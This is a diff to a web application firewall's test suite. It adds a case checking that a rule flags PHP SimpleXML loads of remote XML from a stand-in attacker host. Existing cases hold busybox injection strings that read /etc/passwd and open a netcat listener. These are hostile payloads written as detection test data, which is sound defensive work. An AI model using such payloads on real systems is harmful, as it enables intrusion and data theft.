@@ -91,4 +91,11 @@ describe("edge.waf.rules hundred-and-ninety-ninth round on", function()
         caught_by(132110, { "/bin/busybox id|", "busybox cat /etc/passwd", "busybox nc -l -p 4444" })
         clean({ "busybox is a multi-call binary", "the busybox image is tiny" })
     end)
+
+    it("PHP: SimpleXML or DOM loading a remote document, and SimpleXMLElement instantiated from JSON", function()
+        caught_by(132120, { "simplexml_load_file('http://attacker.example/xxe.xml');",
+            "new SimpleXMLElement('http://attacker.example/x.xml', 0, true)",
+            '{"SimpleXMLElement":{"data":"http://attacker.example/xxe.xml","options":2}}' })
+        clean({ "simplexml_load_file is slow on big feeds", "we parse the feed with SimpleXMLElement" })
+    end)
 end)
